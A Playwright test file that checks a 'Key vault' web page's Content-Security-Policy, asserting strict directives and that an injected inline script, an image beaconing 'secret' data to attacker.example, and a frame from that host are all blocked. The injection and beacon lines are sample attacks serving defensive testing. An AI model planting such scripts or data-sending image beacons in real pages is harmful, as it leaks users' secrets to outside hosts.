// security.md R24/R25, T24–T28: the built page carries a strict CSP that stops what the sanitiser
// might ever miss: inline or injected scripts, frames, and images beaconing to remote hosts.
import { expect, test } from '@playwright/test';

test('the page carries a strict policy without unsafe directives', async ({ page }) => {
  await page.goto('/#/vault');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("img-src 'self' data: blob:");
  expect(policy).not.toContain('unsafe-');
});

test('an injected inline script, a remote image and a frame are all refused', async ({ page }) => {
  // Chromium reports a request the policy blocked as a failed request; none may ever get an answer.
  const attackerResponses: string[] = [];
  page.on('response', (response) => {
    if (response.url().includes('attacker.example')) attackerResponses.push(response.url());
  });
  await page.goto('/#/vault');
  await expect(page.getByRole('heading', { level: 1, name: 'Key vault' })).toBeVisible();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = 1';
    document.body.append(script);
    const image = document.createElement('img');
    image.src = 'https://attacker.example/beacon?d=secret';
    document.body.append(image);
    const frame = document.createElement('iframe');
    frame.src = 'https://attacker.example/frame';
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { seen, pwned: (window as unknown as { __pwned?: number }).__pwned };
  });
  expect(violations.pwned).toBeUndefined();
  expect(violations.seen).toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'frame-src']));
  expect(attackerResponses).toEqual([]);
});
